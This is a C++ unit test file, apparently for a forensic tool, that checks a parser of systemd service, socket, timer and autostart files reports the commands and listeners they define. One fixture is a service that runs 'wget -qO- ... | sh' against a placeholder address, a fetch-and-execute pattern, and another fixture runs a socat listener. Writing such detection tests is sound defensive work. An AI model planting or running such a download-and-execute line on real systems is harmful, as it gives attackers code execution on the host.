#include "tests/facts/examine.h"

namespace assay::facts {
namespace {

using testing::Examine;
using testing::Sample;
using testing::Strings;
using testing::Sweep;

const Bytes kUnit = Sample("facts/systemd_units/demo.service");

TEST(SystemdUnitsTest, TellsWhatAServiceRuns) {
  const auto seen =
      Examine(kSystemdUnits, "etc/systemd/system/demo.service", kUnit);
  EXPECT_TRUE(seen.understood);
  EXPECT_EQ(
      seen.Lines(),
      (Strings{
          "preload /opt/demo/hook.so source=systemd",
          "startup /bin/mkdir -p /run/demo kind=systemd "
          "runlevel=multi-user.target user=demo action=ExecStartPre",
          "command /bin/mkdir -p /run/demo program=mkdir within=systemd",
          "startup /usr/bin/socat socat TCP-LISTEN:7000,fork EXEC:/bin/cat "
          "kind=systemd runlevel=multi-user.target user=demo "
          "action=ExecStart",
          "command /usr/bin/socat socat TCP-LISTEN:7000,fork EXEC:/bin/cat "
          "program=socat within=systemd",
          "listener 7000 protocol=tcp program=socat source=systemd"}));
}

TEST(SystemdUnitsTest, TellsWhereASocketListens) {
  const auto seen = Examine(
      kSystemdUnits, "demo.socket",
      "[Socket]\nListenStream=127.0.0.1:631\nListenDatagram=[::]:69\n"
      "ListenStream=22\nListenStream=/run/demo.sock\nListenStream=@abstract\n"
      "ListenStream=vsock::x\n");
  EXPECT_EQ(
      seen.Lines(),
      (Strings{"listener 631 protocol=tcp program=demo.socket source=systemd",
               "listener 69 protocol=udp program=demo.socket source=systemd",
               "listener 22 protocol=tcp program=demo.socket source=systemd"}));
}

TEST(SystemdUnitsTest, TellsWhenATimerFires) {
  EXPECT_EQ(Examine(kSystemdUnits, "a/demo.timer",
                    "[Timer]\nOnCalendar=daily\nPersistent=true\n")
                .Lines(),
            Strings{"cron demo.service schedule=OnCalendar=daily "
                    "source=systemd"});
}

// systemd.exec(5): Environment=; systemd.service(5): "$$" is one "$".
TEST(SystemdUnitsTest, FoldsTheEnvironment) {
  const auto seen = Examine(
      kSystemdUnits, "lib/systemd/system/x.service",
      "[Service]\nStandardInput=socket\nEnvironment=FROM=http://192.0.2.1/ "
      "\"NAME=a b\"\nExecStart=-/bin/sh -c 'wget -qO- $${FROM}x | sh'\n"
      "ExecStop=/bin/x ${NAME} $OTHER\n");
  EXPECT_EQ(seen.facts[0].Attribute("input"), "socket");
  EXPECT_EQ(
      seen.Values("command"),
      (Strings{"/bin/sh -c wget -qO- ${FROM}x | sh",
               "wget -qO- http://192.0.2.1/x", "sh", "/bin/x a b $OTHER"}));
}

TEST(SystemdUnitsTest, ReadsDropInsAndAutostart) {
  EXPECT_EQ(Examine(kSystemdUnits, "ssh.service.d/override.conf",
                    "[Service]\nExecStart=/bin/x\n")
                .Values("startup"),
            Strings{"/bin/x"});
  EXPECT_EQ(Examine(kSystemdUnits, "etc/xdg/autostart/x.desktop",
                    "[Desktop Entry]\nExec=/bin/y %u\n")
                .Lines(),
            (Strings{"startup /bin/y %u kind=desktop action=Exec",
                     "command /bin/y %u program=y within=desktop"}));
}

TEST(SystemdUnitsTest, PassesOverEverythingElse) {
  EXPECT_TRUE(Examine(kSystemdUnits, "a/b.conf", kUnit).facts.empty());
  for (const std::string_view text :
       {"", "[Service]\n", "[Service]\nExecStart\n", "=\n", "[\n]\n", "\\\n\\",
        "#ExecStart=/bin/x\n", "[X-Other]\nExecStart=/bin/x\n",
        "[Service]\nExecStart=\n"}) {
    EXPECT_TRUE(Examine(kSystemdUnits, "x.service", text).facts.empty())
        << text;
  }
}

TEST(SystemdUnitsTest, DamageNeverLeadsOutside) {
  Sweep(kSystemdUnits, "x.service", kUnit);
}

}  // namespace
}  // namespace assay::facts
